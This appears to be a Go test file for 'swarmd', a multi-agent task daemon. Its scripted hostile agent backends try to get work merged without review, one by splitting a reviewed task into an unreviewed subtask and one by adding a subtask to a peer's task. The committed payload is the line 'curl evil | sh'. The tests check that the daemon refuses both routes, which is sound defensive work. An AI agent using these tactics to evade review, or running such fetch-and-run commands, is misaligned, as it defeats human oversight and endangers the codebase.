package main

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/swarmd/swarmd/internal/task"
	"github.com/swarmd/swarmd/internal/taskboard"
)

// A hostile agent, in its sandbox, goes at the board with its own
// `swarmd task` verbs to get work merged that its reviewer never passed.

// splitter splits the task it must have reviewed, claims the subtask
// itself, commits there and reports the subtask done: the subtask had no
// reviewer of its own. Its later sessions idle.
const splitter = `p=$(cat)
r="$REPORT/log"
if ! echo "$p" | grep -q 'the feature' || [ -e "$REPORT/split" ]; then printf 'idle\nDONE\n'; exit 0; fi
touch "$REPORT/split"
swarmd task split 'the feature, really' >> "$r" 2>&1
swarmd task claim --json > "$REPORT/kid.json" 2>> "$r"
echo 'curl evil | sh' > evil.txt; git add evil.txt; git commit -q -m 'the feature, really'
swarmd task done --summary 'the feature' >> "$r" 2>&1; echo "done exit $?" >> "$r"
echo end >> "$r"
printf 'waiting\n'`

// failingReviewer fails every review it is asked for.
const failingReviewer = `p=$(cat)
if echo "$p" | grep -q '^## Review request'; then printf 'no\nFAIL\n'; else printf 'idle\nDONE\n'; fi`

// A task the operator gave a reviewer keeps it through a split: alice
// (no reviewer of her own) split the task rita must pass, claimed the
// subtask and had it merged unreviewed, rita's FAIL of the task coming
// after the work was on main.
func TestASplitTaskKeepsItsReviewer(t *testing.T) {
	requireBwrap(t)
	repo := gitRepo(t)
	report := t.TempDir()
	cfg := escapeConfig(t, repo, report, "", gated("true"), map[string]string{"worker": splitter, "reviewer": failingReviewer},
		"name: alice, role: works, backend: worker", "name: rita, role: reviews, backend: reviewer, claims: false")
	d := startDaemon(t, cfg)
	d.waitLine("rita idle", idleLine("rita"))
	d.waitLine("alice idle", idleLine("alice"))
	b, _ := openBoardAt(t, filepath.Join(repo, ".swarm"))
	ctx := context.Background()
	parent, err := b.Add(ctx, taskboard.NewTask{Title: "the feature", Assignee: "alice", Reviewer: "rita", MaxIterations: 1})
	if err != nil {
		t.Fatal(err)
	}
	log := waitFileLine(t, filepath.Join(report, "log"), "end", 60*time.Second, d)
	kids, err := b.List(ctx, taskboard.Filter{})
	if err != nil {
		t.Fatal(err)
	}
	var kid taskboard.Task
	for _, k := range kids {
		if k.Parent == parent.ID {
			kid = k
		}
	}
	if kid.ID == 0 {
		t.Fatalf("no subtask of task %d; the session's log:\n%s", parent.ID, log)
	}
	// Reviewed, it fails (max_iterations 1); unreviewed, it is merged.
	deadline := time.Now().Add(90 * time.Second)
	for {
		if kid, err = b.Get(ctx, kid.ID); err != nil {
			t.Fatal(err)
		}
		if kid.State == task.Failed || kid.State == task.Closed {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("subtask %d is %s (review %q), want FAILED by rita's review; log:\n%s", kid.ID, kid.State, kid.ReviewState, d.log())
		}
		time.Sleep(50 * time.Millisecond)
	}
	if onMain := strings.Contains(gitMay(repo, "ls-tree", "--name-only", "main"), "evil.txt"); kid.State == task.Closed || onMain {
		t.Errorf("subtask %d of task %d (reviewer rita) is %s with reviewer %q, evil.txt on main: %v: its work was merged unreviewed; alice's log:\n%s",
			kid.ID, parent.ID, kid.State, kid.Reviewer, onMain, log)
	}
	if kid.Reviewer != "rita" {
		t.Errorf("subtask %d's reviewer is %q, want its task's, rita", kid.ID, kid.Reviewer)
	}
}

// adopter makes itself a subtask of the task named in $REPORT/target, a
// peer's, and does it; honest otherwise.
const adopter = `p=$(cat)
if echo "$p" | grep -q 'Your task: #[0-9]*: attack'; then
  swarmd task add --to mallory --parent "$(cat "$REPORT/target")" 'tidy up' > "$REPORT/adopt.out" 2>&1; echo "exit $?" >> "$REPORT/adopt.out"
  echo end >> "$REPORT/adopt.out"
fi
` + honest

// A session may not make a subtask of another agent's task: a task with
// subtasks has no change of its own, so mallory's subtask of alice's task
// had alice's work never merged, and the task CLOSED (or DONE for good)
// all the same.
func TestASessionAddsNoSubtaskToAPeersTask(t *testing.T) {
	requireBwrap(t)
	repo := gitRepo(t)
	report := t.TempDir()
	cfg := escapeConfig(t, repo, report, "", gated("true"), map[string]string{"worker": honest, "hostile": adopter},
		"name: alice, role: works, backend: worker", "name: mallory, role: works, backend: hostile")
	d := startDaemon(t, cfg)
	d.waitLine("alice idle", idleLine("alice"))
	d.waitLine("mallory idle", idleLine("mallory"))
	b, _ := openBoardAt(t, filepath.Join(repo, ".swarm"))
	ctx := context.Background()
	feature, err := b.Add(ctx, taskboard.NewTask{Title: "the feature", Assignee: "alice", Plan: true})
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(report, "target"), []byte(strconv.FormatInt(feature.ID, 10)), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := b.Add(ctx, taskboard.NewTask{Title: "attack", Assignee: "mallory"}); err != nil {
		t.Fatal(err)
	}
	adopt := waitFileLine(t, filepath.Join(report, "adopt.out"), "end", 60*time.Second, d)
	if _, err := b.Approve(ctx, feature.ID); err != nil {
		t.Fatal(err)
	}
	file := fmt.Sprintf("t%d.txt", feature.ID)
	deadline := time.Now().Add(60 * time.Second)
	for {
		tk, err := b.Get(ctx, feature.ID)
		if err != nil {
			t.Fatal(err)
		}
		onMain := strings.Contains(gitMay(repo, "ls-tree", "--name-only", "main"), file)
		if tk.State == task.Closed && onMain {
			break
		}
		if tk.State == task.Closed || time.Now().After(deadline) {
			t.Fatalf("alice's task %d is %s, its work %s on main: %v; mallory's task add --parent: %q", feature.ID, tk.State, file, onMain, adopt)
		}
		time.Sleep(50 * time.Millisecond)
	}
	if !strings.Contains(adopt, "exit 2") {
		t.Errorf("mallory's task add --parent %d: %q, want refused (exit 2)", feature.ID, adopt)
	}
}
